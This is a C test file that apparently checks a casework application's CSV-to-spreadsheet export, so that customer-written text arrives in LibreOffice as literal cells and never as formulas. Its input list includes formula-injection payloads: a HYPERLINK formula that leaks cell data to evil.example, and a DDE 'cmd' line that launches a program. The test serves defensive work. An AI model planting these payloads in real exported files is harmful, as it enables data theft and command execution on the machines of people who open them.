/*
 * An exported table in a real spreadsheet program: every cell arrives as the file has it, and none as a
 * formula. CASEWORK_SPREADSHEET names the program, LibreOffice's soffice; without it this is skipped, and
 * `make conformance` looks for one.
 */

#include "base/clock.h"
#include "casework/cases/v1/channel_service.pb-c.h"
#include "tests/support/export.h"

#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>

TestSuite(export_spreadsheet, .timeout = 300);

/* What customers and agents may write. */
static const char *const texts[] = {
    "=1+2",
    "+1-1",
    "-2+3",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
    "=cmd|' /C calc'!A0",
    "\xef\xbc\x9d\x31+1",
    "'=1+1",
    "\t=1+2",
    "two\r\nlines, \"quoted\"; and\ttabs",
    "1e5",
    "00123",
    "2026-03-02",
    "TRUE",
    "  spaces  ",
    "Zo\xc3\xab \xf0\x9f\x98\x80 \xe2\x80\xa8 \\ /",
    "{\"json\": [1, 2]}",
};
enum { TEXTS = sizeof texts / sizeof *texts };

static const char *make_channel(struct shop *d, int number)
{
    Casework__Cases__V1__Channel channel = CASEWORK__CASES__V1__CHANNEL__INIT;
    Casework__Cases__V1__CreateChannelRequest request = CASEWORK__CASES__V1__CREATE_CHANNEL_REQUEST__INIT;
    channel.network = (char *)"email";
    channel.address = arena_printf(d->memory, "%s%d", number % 3 == 0 ? "+3120" : "=A", number);
    request.parent = (char *)d->account;
    request.channel_id = arena_printf(d->memory, "channel-%d", number);
    request.channel = &channel;
    suite_call(d->suite, &casework__cases__v1__channel_service__descriptor, "CreateChannel", &request,
               d->memory);
    return arena_printf(d->memory, "%s/channels/%s", d->account, request.channel_id);
}

static const char *make_case(struct shop *d, const char *channel)
{
    Casework__Cases__V1__Case made = CASEWORK__CASES__V1__CASE__INIT;
    Casework__Cases__V1__CreateCaseRequest request = CASEWORK__CASES__V1__CREATE_CASE_REQUEST__INIT;
    made.subject = (char *)"Kettle";
    made.channel = (char *)channel;
    request.parent = (char *)d->account;
    request.case_ = &made;
    const Casework__Cases__V1__CreateCaseResponse *response = suite_call(
        d->suite, &casework__cases__v1__case_service__descriptor, "CreateCase", &request, d->memory);
    return response->case_->name;
}

static void live(struct shop *d)
{
    for (int i = 0; i < TEXTS; i++) {
        const char *name = make_case(d, make_channel(d, i));
        suite_write(d->suite, name, CASEWORK__CASES__V1__MESSAGE_KIND__MESSAGE_KIND_CUSTOMER, NULL, texts[i]);
        suite_advance(d->suite, CLOCK_MINUTE + 1234567);
        shop_write(d, name, i % 2 == 0 ? "ann" : "bob");
        if (i % 3 != 0)
            shop_classify(d, name, texts[i], texts[(i + 1) % TEXTS], true);
        if (i % 4 == 0)
            suite_step(d->suite, "ResolveCase", name, "ann");
    }
    suite_advance(d->suite, 80 * CLOCK_HOUR);
}

static void run(const struct shop *d, const char *const *argv)
{
    const struct process_options options = {
        .argv = argv,
        .output_file = arena_printf(d->memory, "%s/spreadsheet.log", suite_directory(d->suite))};
    error err = {0};
    cr_assert(process_run(&options, 2 * CLOCK_MINUTE, &err), "%s: %s (%s)", argv[0], err.message, err.detail);
}

Test(export_spreadsheet, has_every_cell_as_it_was)
{
    const char *program = getenv("CASEWORK_SPREADSHEET");
    if (program == NULL || program[0] == '\0')
        cr_skip_test("CASEWORK_SPREADSHEET names no program; make conformance looks for one");
    struct shop d = shop_begin("UTC", NULL);
    live(&d);
    const char *folder = suite_directory(d.suite);
    const char *csv = arena_printf(d.memory, "%s/cells.csv", folder);
    const char *sheet = arena_printf(d.memory, "%s/cells.xlsx", folder);
    cr_assert_eq(
        suite_run(d.suite,
                  (const char *const[]){"report", "engagements", "acme", "--csv", csv, "--messages", NULL},
                  NULL),
        0);
    /* as who opens a file: UTF-8, cut at commas, semicolons and tabs, numbers and formulas taken for such */
    const char *profile = arena_printf(d.memory, "-env:UserInstallation=file://%s/profile", folder);
    run(&d,
        (const char *const[]){program, profile, "--headless", "--norestore", "--infilter=CSV:44/59/9,34,76,1",
                              "--convert-to", "xlsx", "--outdir", folder, csv, NULL});
    run(&d, (const char *const[]){"python3", "tests/conformance/spreadsheet.py", csv, sheet, NULL});
    shop_end(&d);
}
